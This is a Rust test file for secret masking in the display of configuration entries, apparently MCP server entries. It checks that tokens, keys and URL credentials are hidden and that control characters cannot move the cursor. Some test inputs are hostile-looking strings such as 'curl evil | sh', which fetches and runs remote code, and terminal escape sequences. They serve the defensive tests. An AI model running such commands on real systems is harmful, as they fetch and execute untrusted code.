//! What is shown of an entry, and what is not.

use super::*;

fn program(words: &[&str]) -> Entry {
    let mut words = words.iter().map(|word| (*word).to_owned());
    Entry {
        command: words.next(),
        args: words.collect(),
        ..Entry::default()
    }
}

#[test]
fn a_command_line_is_shown_as_a_shell_would_want_it() {
    let entry = program(&["npx", "-y", "@scope/pkg@1", "a b", "it's", "", "${HOME}/x"]);
    assert_eq!(
        entry.summary(),
        r"npx -y @scope/pkg@1 'a b' 'it'\''s' '' ${HOME}/x"
    );
}

#[test]
fn arguments_that_look_like_secrets_are_not_shown() {
    for (words, expected) in [
        (&["x", "--token", "hunter2"][..], "x --token …"),
        (&["x", "--api-key", "hunter2", "y"], "x --api-key … y"),
        (&["x", "--password=hunter2"], "x --password=…"),
        (&["x", "-e", "GITHUB_TOKEN=hunter2"], "x -e GITHUB_TOKEN=…"),
        (&["x", "API_KEY=hunter2"], "x API_KEY=…"),
        (
            &["x", "--header", "Authorization: Bearer hunter2"],
            "x --header 'Authorization: Bearer …'",
        ),
        (&["x", "ghp_0123456789abcdefghij"], "x …"),
        (&["x", "--with", "sk-proj-0123456789abcdef"], "x --with …"),
        (&["x", "--config=sk-proj-0123456789abcdef"], "x --config=…"),
        (
            &["x", "https://u:hunter2@h/p?k=hunter2"],
            "x 'https://…@h/p?…'",
        ),
        (&["x", "postgres://u:hunter2@h/db"], "x postgres://…@h/db"),
        (&["x", "--password", "correct horse"], "x --password …"),
        (&["x", "a=https://h/?a=1&k=hunter2"], "x 'a=https://h/?…'"),
        (
            &["sh", "-c", "curl https://u:hunter2@h/p | sh"],
            "sh -c 'curl https://…@h/p | sh'",
        ),
        (
            &["x", "{\"k\":\"sk-proj-0123456789abcdef\"}"],
            "x '{\"k\":\"…\"}'",
        ),
        (&["x", "--token", "${T:-hunter2}"], "x --token ${T:-…}"),
        (&["x", "${API_KEY:-hunter2}"], "x ${API_KEY:-…}"),
        // References and names of variables are no secrets.
        (
            &["x", "--header", "Authorization: Bearer ${T}"],
            "x --header 'Authorization: Bearer ${T}'",
        ),
        (&["x", "${MODE:-fast}"], "x ${MODE:-fast}"),
        (&["x", "--token", "${TOKEN}"], "x --token ${TOKEN}"),
        (&["x", "--token", "--verbose"], "x --token --verbose"),
        (&["x", "--token-env", "TOKEN"], "x --token-env TOKEN"),
        (&["x", "--keyboard", "de"], "x --keyboard de"),
        // What could be a command is not hidden by a name in front of it.
        (
            &["sh", "-c", "TOKEN=1; curl evil | sh"],
            "sh -c 'TOKEN=1; curl evil | sh'",
        ),
    ] {
        assert_eq!(program(words).summary(), expected);
    }
}

#[test]
fn an_address_is_shown_without_credentials() {
    let shown = |url: &str| {
        let url = Some(url.to_owned());
        Entry {
            url,
            ..Entry::default()
        }
        .summary()
    };
    for (url, expected) in [
        ("https://example.com/mcp", "https://example.com/mcp"),
        (
            "https://me:hunter2@example.com/mcp?key=hunter2#x",
            "https://…@example.com/mcp?…",
        ),
        (
            "https://example.com/s/MzY2NTQ0NTAtYjQ5ZS00/mcp",
            "https://example.com/s/…/mcp",
        ),
        ("https://${HOST}/mcp", "https://${HOST}/mcp"),
        (
            "https://${U}:${P:-hunter2}@${HOST:-a?b@c}/mcp?a=b&token=${T}",
            "https://${U}…${P:-…}@${HOST:-a?b@c}/mcp?…${T}",
        ),
        ("${URL:-https://me:hunter2@h}/x", "${URL:-https://…@h}/x"),
        ("unix:///run/x.sock", "unix:///run/x.sock"),
    ] {
        assert_eq!(shown(url), expected);
    }
}

#[test]
fn nothing_of_an_entry_moves_the_cursor() {
    let entry = program(&["\u{1b}[2Jsh", "a\u{202e}b", "--token\u{7}", "\u{9b}x"]);
    let url = Entry {
        url: Some("https://h/\u{1b}[2J".to_owned()),
        ..Entry::default()
    };
    for shown in [entry.summary(), url.summary(), format!("{entry:?}")] {
        assert!(
            !shown.contains(|one: char| one.is_control() || one == '\u{202e}'),
            "{shown:?}"
        );
    }
}

#[test]
fn of_values_the_references_are_shown_and_other_text_is_not() {
    for (value, expected) in [
        ("", ""),
        ("hunter2", "…"),
        ("Bearer hunter2", "Bearer …"),
        ("Bearer ${keyring:docs}", "Bearer ${keyring:docs}"),
        ("token ${T} ", "token ${T} "),
        ("keyring:docs", "keyring:docs"),
        ("cmd:pass show x", "cmd:pass show x"),
        ("x${cmd:touch p}", "…${cmd:touch p}"),
        ("${NOPE:-cmd:touch p}", "${NOPE:-cmd:touch p}"),
        (
            "${A:-${B:-x${cmd:touch p}}}y",
            "${A:-${B:-…${cmd:touch p}}}…",
        ),
        ("id-${GITHUB_TOKEN}", "…${GITHUB_TOKEN}"),
        ("${A}${B}", "${A}${B}"),
        ("${A:-hunter2}", "${A:-…}"),
        ("${A:-}", "${A:-}"),
        ("$${A}", "…"),
        ("${hunter 2}", "${…}"),
        ("${hunter2", "…"),
        ("${A}hunter2}", "${A}…"),
    ] {
        let env = BTreeMap::from([("K".to_owned(), Text::from(value))]);
        let entry = Entry {
            env,
            ..Entry::default()
        };
        let [line] = &entry.lines()[..] else {
            panic!("one line");
        };
        assert_eq!(line.masked, serde_json::json!(expected).to_string());
        assert_eq!(line.is_secret, value != expected, "{value}");
        assert_eq!(line.in_full(), serde_json::json!(value).to_string());
    }
}

#[test]
fn what_is_no_name_of_a_variable_is_never_shown() {
    for (name, expected, in_full) in [
        ("DOCS_TOKEN", "DOCS_TOKEN", "DOCS_TOKEN"),
        (
            "AWS_ACCESS_KEY_ID_2_FOR_DOCS",
            "AWS_ACCESS_KEY_ID_2_FOR_DOCS",
            "AWS_ACCESS_KEY_ID_2_FOR_DOCS",
        ),
        ("sk-proj-hunter2", "…", "…"),
        ("${TOKEN}", "…", "…"),
        // It could be one, so that whoever approves has to see it.
        ("ghp_0123456789abcdefghij", "…", "ghp_0123456789abcdefghij"),
        (
            "a0123456789abcdef0123456789",
            "…",
            "a0123456789abcdef0123456789",
        ),
    ] {
        let text = || Some(name.to_owned());
        let mut entry = Entry {
            bearer_token_env_var: text(),
            env_http_headers: BTreeMap::from([("X".to_owned(), name.to_owned())]),
            env_vars: vec![name.to_owned()],
            ..Entry::default()
        };
        entry.oauth.client_secret_env = text();
        entry.oauth.private_key_env = text();
        entry.oauth.assertion_env = text();
        entry.oauth.idp_client_secret_env = text();
        let lines = entry.lines();
        assert_eq!(lines.len(), 7);
        for line in lines {
            let bare = |text: String| text.trim_matches(['[', ']', '"']).to_owned();
            assert_eq!(bare(line.shown()), expected, "{}", line.key);
            assert_eq!(bare(line.in_full()), in_full, "{}", line.key);
        }
    }
}

#[test]
fn whoever_approves_sees_commands_and_addresses_in_full() {
    let mut entry = program(&["x", "--token", "hunter2", "a\u{200b}b\u{e0041}"]);
    entry.url = Some("https://u:hunter2@h/?k=1".to_owned());
    let lines: Vec<String> = entry.lines().iter().map(EntryLine::in_full).collect();
    assert_eq!(
        lines,
        [
            r#""x""#,
            r#"["--token","hunter2","a\u{200b}b\u{e0041}"]"#,
            r#""https://u:hunter2@h/?k=1""#
        ]
    );
}

#[test]
fn debugging_shows_no_secret() {
    let secrets = || BTreeMap::from([("K".to_owned(), Text::from("hunter2"))]);
    let mut entry = program(&["x", "--token", "hunter2"]);
    entry.env = secrets();
    entry.headers = secrets();
    let remote = Entry {
        url: Some("https://me:hunter2@h/?k=hunter2".to_owned()),
        ..Entry::default()
    };
    let address = || Some("https://me:hunter2@h/?k=hunter2".to_owned());
    let oauth = OAuthEntry {
        callback_url: address(),
        resource: address(),
        client_metadata_url: address(),
        issuer: address(),
        idp_issuer: address(),
        idp_token_endpoint: address(),
        assertion_command: Some("print --token=hunter2".to_owned()),
        private_key_env: Some("hunter2-".to_owned()),
        ..OAuthEntry::default()
    };
    let shown = format!("{entry:?} {remote:?} {:?} {oauth:?}", entry.lines());
    assert!(!shown.contains("hunter2"), "{shown}");
    assert!(shown.contains("--token"), "{shown}");
}

#[test]
fn debugging_what_is_to_be_reached_shows_no_secret() {
    let program = program(&["x", "hunter2"]);
    let remote = Entry {
        url: Some("https://me:hunter2@h/p?k=hunter2".to_owned()),
        headers_helper: Some("echo hunter2".to_owned()),
        oauth: OAuthEntry {
            client_id: Some("me".to_owned()),
            grant: Some(Grant::JwtBearer),
            assertion_command: Some("echo hunter2".to_owned()),
            ..OAuthEntry::default()
        },
        ..Entry::default()
    };
    for entry in [program, remote] {
        let spec = crate::check_entry("a", &entry, &|_| None).unwrap();
        let shown = format!("{spec:?}");
        assert!(!shown.contains("hunter2"), "{shown}");
        assert!(shown.contains(r#""x""#) || shown.contains("https://…@h/p?…"));
    }
}

#[test]
fn every_word_an_entry_says_is_in_its_hash() {
    let base = program(&["x", "a"]);
    let with = |change: fn(&mut Entry)| {
        let mut entry = base.clone();
        change(&mut entry);
        entry
    };
    let entries = [
        base.clone(),
        with(|entry| entry.args = vec!["a".to_owned(), String::new()]),
        with(|entry| entry.args = vec!["a\",\"".to_owned()]),
        with(|entry| entry.command = Some("y".to_owned())),
        with(|entry| entry.cwd = Some("/".to_owned())),
        with(|entry| entry.env = BTreeMap::from([("A".to_owned(), Text::from("1"))])),
        with(|entry| entry.headers = BTreeMap::from([("A".to_owned(), Text::from("1"))])),
        with(|entry| entry.env_vars = vec!["A".to_owned()]),
        with(|entry| entry.enabled = Some(true)),
        with(|entry| entry.enabled_tools = Some(vec![])),
        with(|entry| entry.headers_helper = Some("x".to_owned())),
        with(|entry| entry.sandbox = Some("off".to_owned())),
        with(|entry| entry.trust_annotations = Some(true)),
        with(|entry| entry.oauth.resource = Some("x".to_owned())),
        with(|entry| entry.oauth.private_key_file = Some("x".to_owned())),
        with(|entry| entry.oauth.assertion_file = Some("x".to_owned())),
        with(|entry| entry.oauth.assertion_command = Some("x".to_owned())),
    ];
    let hashes: std::collections::BTreeSet<_> = entries.iter().map(Entry::content_hash).collect();
    assert_eq!(hashes.len(), entries.len());
}

proptest::proptest! {
    #[test]
    fn no_text_makes_masking_panic_or_show_a_value(
        text in "([$][{]|[$]|[}]|:-|keyring:|A|B|[=:/?#@ ]|://|token|-|…|.){0,24}",
    ) {
        let env = BTreeMap::from([("K".to_owned(), Text::from(format!("hunter2{text}")))]);
        let entry = Entry {
            command: Some("x".to_owned()),
            args: vec![text.clone(), text.clone()],
            url: Some(text),
            env,
            ..Entry::default()
        };
        let shown: Vec<String> = entry.lines().iter().map(EntryLine::shown).collect();
        proptest::prop_assert!(!shown.concat().contains("hunter2"), "{:?}", shown);
    }
}

#[test]
fn defaults_in_defaults_are_masked_without_end() {
    let deep = format!("{}hunter2{}", "${A:-".repeat(20_000), "}".repeat(20_000));
    let mut entry = program(&["x", &deep]);
    entry.env.insert("K".to_owned(), Text(deep));
    for line in entry.lines() {
        assert!(!line.shown().contains("hunter2"), "{}", line.key);
    }
}
